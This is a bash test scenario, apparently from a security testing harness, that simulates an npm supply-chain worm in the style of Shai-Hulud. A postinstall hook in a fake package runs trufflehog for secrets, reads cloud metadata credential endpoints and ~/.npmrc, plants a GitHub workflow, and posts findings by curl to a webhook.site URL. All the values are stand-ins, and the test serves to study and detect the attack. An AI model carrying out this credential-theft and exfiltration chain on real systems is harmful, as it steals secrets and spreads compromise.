#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A postinstall hook runs bundle.js: trufflehog over the file system, the cloud's metadata address, a workflow planted in the
# repository, the findings posted by curl to a hook on the web, and the package published again.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in node git curl trufflehog
  host metadata.google.internal 169.254.169.254
  host webhook.site 203.0.113.20
  page 169.254.169.254/latest/meta-data/iam/security-credentials/runner-role <<<"runner-role"
  page metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token <<<"{}"
  file "$HOME/.npmrc" <<<"//registry.example/:_authToken=stand-in"
  file "$HOME/.aws/credentials" <<<"aws_secret_access_key = stand-in"
  file "$HOME/.config/gcloud/application_default_credentials.json" <<<"{}"
  replies trufflehog <<'END'
read ~/.npmrc
read ~/.aws/credentials
read ~/.config/gcloud/application_default_credentials.json
say {"Raw":"stand-in"}
END
  mkdir -p "$project/.github/workflows"
  script npm node <<END
in $project/node_modules/tinycolor
sh node bundle.js
END
  file "$project/node_modules/tinycolor/bundle.js" <<END
# deeds
run trufflehog filesystem / --json
get http://169.254.169.254/latest/meta-data/iam/security-credentials/runner-role
get http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
write $project/.github/workflows/shai-hulud-workflow.yml 'on: push'
sh curl -s -d '{"findings":"stand-in-findings"}' https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
read ~/.npmrc
END
}

deeds() {
  cd "$project"
  npm install
}

check() {
  [ -e "$project/.github/workflows/shai-hulud-workflow.yml" ] || fails "there is no workflow"
  posted stand-in-findings || fails "nothing was posted"
}

"$1"
